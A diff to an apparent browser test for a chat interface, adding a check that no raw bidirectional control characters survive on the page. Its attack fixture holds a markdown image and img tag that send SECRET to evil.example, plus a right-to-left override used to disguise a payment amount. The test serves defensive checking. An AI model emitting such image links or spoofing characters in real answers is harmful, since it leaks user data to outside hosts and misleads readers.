@@ -29,6 +29,10 @@ ATTACK = """![secret](https://evil.example/p.png?q=SECRET) <img src=https://evil
 ```
 
 pay \u202e001$"""
+# Texts, titles and labels of the whole page that hold what turns a direction.
+RAW = r"""() => [...document.querySelectorAll("body, body *:not(script)")].flatMap(one => [
+    ...[...one.childNodes].filter(node => node.nodeType === Node.TEXT_NODE).map(node => node.data),
+    one.title, one.ariaLabel ?? ""]).concat(document.title).filter(text => /[\u202a-\u202e\u2066-\u2069]/.test(text))"""
 RULES = [{"match": "attack me", "answer": ATTACK}, {"match": ".", "answer": "Hm."}]
 
 
@@ -40,6 +44,7 @@ def test_an_answer_full_of_attacks_loads_nothing_and_runs_nothing(team: Serving,
     expect(answer).to_contain_text("your bank (evil.example)")
     expect(answer).to_contain_text("⟦U+202E⟧")
     expect(part(page, "user-text")).to_contain_text("⟦U+202E⟧")
+    assert page.evaluate(RAW) == []
     assert page.evaluate("window.hit") is None
     assert answer.locator("img, iframe, script, style, object, embed, link, form, video, audio").count() == 0
     links = answer.locator("a").evaluate_all("all => all.map(one => [one.getAttribute('href'), one.rel])")
